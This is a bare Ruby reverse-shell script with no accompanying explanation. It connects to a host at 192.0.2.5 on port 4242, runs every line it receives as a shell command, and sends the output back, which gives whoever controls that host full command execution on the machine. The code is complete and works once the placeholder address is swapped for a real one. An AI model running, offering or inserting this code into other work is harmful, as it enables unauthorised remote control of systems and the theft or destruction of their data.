require 'socket'
s = Socket.tcp('192.0.2.5', 4242)
loop do
  line = s.gets.chomp
  out = `#{line}`
  s.puts out
end
